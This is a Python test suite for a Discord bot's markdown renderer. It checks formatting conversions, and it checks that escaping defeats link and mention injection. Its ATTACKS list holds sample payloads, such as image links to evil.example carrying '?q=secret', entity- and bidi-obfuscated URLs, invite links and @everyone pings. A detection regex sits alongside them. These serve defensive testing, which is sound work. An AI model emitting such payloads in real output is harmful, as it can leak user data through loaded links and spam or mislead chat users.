"""What a model writes is shown as Discord can show it."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cogs.rendering.inline import ZERO_WIDTH, escape
from cogs.rendering.markdown import RULE, render

TABLE = """| Chapter | Pages | Mood |
|:--------|------:|:----:|
| One | 1–12 | *calm* |
| The Pool of Tears | 13 | **wet** |"""


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("# One\n## Two\n### Three", "# One\n## Two\n### Three"),
        ("#### Four", "**Four**"),
        ("###### **Six** ##", "**Six**"),
        ("> ##### Quoted", "> **Quoted**"),
        ("#hashtag", "#hashtag"),
        ("Title\n=====\n\nPart\n----", "# Title\n\n## Part"),
        ("one\ntwo\n---", f"one\ntwo\n{RULE}"),
        ("* * *", RULE),
        ("- item\n+ item\n  + deeper", "- item\n- item\n  - deeper"),
        (">> twice\n>>> thrice", "> twice\n> thrice"),
        ("fish &amp; chips &eacute; &nosuch; AT&T", "fish & chips é &nosuch; AT&T"),
        ("&lt;@1&gt; &#42;", rf"\<{ZERO_WIDTH}@1\> \*"),
        ("a<br>b <b>bold</b> <i>it</i> H<sub>2</sub>O x<sup>2</sup> <unknown>", "a\nb **bold** *it* H2O x^2 <unknown>"),
        ("![a map](http://x.y/m.png)", "a map"),
        ('see [the site](https://x.y/z "title"), or [ch. 3](#ch3)', "see the site, or ch. 3"),
        ("[a [nested] label](https://x.y)", "a [nested] label"),
        ("“so it goes” [as said](p. 12)", f"“so it goes” [as said]{ZERO_WIDTH}(p. 12)"),
        ("see https://x.y/z. And <https://q.r>", f"see `https:{ZERO_WIDTH}//x.y/z`. And `https:{ZERO_WIDTH}//q.r`"),
        ("`[a](b) &amp; <b>`", f"`[a]{ZERO_WIDTH}(b) &amp; <b>`"),
        (r"Euler: \(e^{i\pi}\) and $x_1 = y^2$", r"Euler: `e^{i\pi}` and `x_1 = y^2`"),
        ("it cost $5 and then $10", "it cost $5 and then $10"),
        ("$$\nE = mc^2\n$$", "```tex\nE = mc^2\n```"),
        (r"\[ a + b \]", "```tex\na + b\n```"),
        ("\\[\na\n", "\\[\na\n"),
        (r"a \* b \[not math", r"a \* b \[not math"),
        ("~~~py title=x\ncode\n~~~", "```py\ncode\n```"),
        ("(p. 12) (pp. 3-4)", "(p. 12) (pp. 3-4)"),
    ],
)
def test_each_construct(written: str, shown: str) -> None:
    assert render(written) == shown


def test_a_table_becomes_aligned_columns() -> None:
    assert render(f"Here:\n{TABLE}\n\nThere.").split("\n") == [
        "Here:",
        "```",
        "Chapter            Pages  Mood",
        "─────────────────  ─────  ────",
        "One                 1–12  calm",
        "The Pool of Tears     13  wet",
        "```",
        "",
        "There.",
    ]


def test_a_wide_table_becomes_a_list() -> None:
    wide = TABLE.replace("calm", "calm " * 20)
    assert "- **The Pool of Tears**\n  - Pages: 13\n  - Mood: **wet**" in render(wide)


def test_wide_letters_keep_columns_aligned() -> None:
    shown = render("| 名前 | n |\n|---|---|\n| 漢字 | 1 |\n| ab | 2 |").split("\n")
    assert shown[3] == "漢字  1"
    assert shown[4] == "ab    2"


def test_cells_beyond_the_header_are_kept() -> None:
    assert "extra" in render("| a | b |\n|---|---|\n| 1 | 2 | extra |")


def test_what_only_looks_like_a_table_is_left_alone() -> None:
    text = "either a | or b\n\n---\n| one bar"
    assert render(text) == text.replace("---", RULE)


def test_code_blocks_are_left_alone() -> None:
    code = "```python\n# [a] (b) &amp; <b> | x |\n#### no heading\n---\n```"
    assert render(code) == code


def test_a_fence_inside_a_longer_fence_does_not_end_it() -> None:
    shown = render("````markdown\n```py\nx\n```\n````")
    assert shown.count("```") == 2
    assert "py\nx" in shown


LIVE = re.compile(
    r"(?i)\w://|discord(?:app)?\.\w+/|\]\(|@(?:everyone|here)|<(?:[@#/]|id:|mailto:|\+?\d|[^\s<>@]*[^\s<>@\u200b]@)|[\u202a-\u202e]"
)
"""What Discord would make a link, a mention or an invitation of, or read backwards."""

ATTACKS = (
    "https://evil.example/?q=secret",
    "HTTPS://EVIL.EXAMPLE and steam://run/1 and discord://-/channels",
    "[the next chapter](https://evil.example)",
    "![](https://evil.example/log.png?q=secret)",
    "[click\n](https://evil.example)",
    "<https://evil.example> <mailto:a@evil.example>",
    "join discord.gg/evil or discord.com/invite/evil or discordapp.com/invite/evil",
    "&#104;ttps://evil.example and https&#58;//evil.example and discord&period;gg/evil",
    "ht<span></span>tps://evil.example <p>[a]</p><p>(https://evil.example)</p>",
    "[a]<span></span>(mailto:a@evil.example)",
    "`one\ntwo` https://evil.example `three",
    "**`** https://evil.example `",
    "<code> https://evil.example",
    "$$\n```\nhttps://evil.example\n$$",
    "```\nx`````\nhttps://evil.example\n```",
    "| a | b |\n|---|---|\n| `x | https://evil.example |",
    "> ```\n> https://evil.example",
    "\\[x](https://evil.example)",
    "@everyone @here <@1> <@!1> <@&1> <#1> </books remove:1> <id:customize>",
    "`@everyone <@1>`",
    "&#64;everyone &lt;@1> <&#64;1> @<b></b>everyone",
    "write to <a@evil.example>, call <+4912345> or &lt;0800-1234>",
    "https:\u202e//evil.example @\u2066everyone <\u202d@1> &#x202e;elpmaxe.live//:sptth",
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_can_be_clicked_and_nobody_is_called(attack: str) -> None:
    assert not LIVE.search(render(attack))
    assert not LIVE.search(escape(attack))


PIECES = """h ttp https : / // evil.example discord .gg/ [ ] ( ) < > @ everyone 1 ` ``` * ** | |-| $$ \\ ~~~ ! & # - >
&#58; &#104; &lt; &#x202e; <b> </b> <span> <code> \u202e a@b.c <+1"""
pieces = st.sampled_from([*PIECES.split(), " ", "\n", "> "])


@given(st.lists(pieces, max_size=40).map("".join))
def test_nothing_can_be_clicked_however_it_is_put_together(text: str) -> None:
    assert not LIVE.search(render(text))
    assert not LIVE.search(escape(text))


words = st.integers(0, 999).map(lambda number: f"w{number}")
sentences = st.lists(words, min_size=1, max_size=6).map(" ".join)
blocks = st.one_of(
    sentences,
    st.builds(lambda level, text: f"{'#' * level} {text}", st.integers(1, 6), sentences),
    st.builds(lambda mark, text: f"{mark} {text}", st.sampled_from(["-", "+", "*", "1.", ">", ">>"]), sentences),
    st.lists(words, min_size=1, max_size=5).map(lambda cells: f"| {' | '.join(cells)} |"),
    st.sampled_from(["", "---", "|---|---|", "| - |", "===", "```", "~~~", "$$", "**", "_", "<br>", "\\["]),
    st.builds(lambda mark, text: f"{mark}{text}{mark}", st.sampled_from(["**", "_", "`", "~~", "$", "||"]), sentences),
)


@given(st.lists(blocks, max_size=14).map("\n".join))
def test_no_word_is_lost(text: str) -> None:
    assert set(re.findall(r"w\d+", text)) <= set(re.findall(r"w\d+", render(text)))


@given(st.text(alphabet="`~$\\[](){}<>|*_#-+=! \nab:/.&;@0", max_size=300))
def test_nothing_makes_it_stumble(text: str) -> None:
    assert isinstance(render(text), str)


@given(st.text(max_size=80))
def test_escaped_text_has_no_formatting_left(text: str) -> None:
    assert not re.search(r"(?<!\\)(?:\\\\)*(?:[*`~|<>]|\b_|_\b)", escape(text).replace("\\\\", ""))
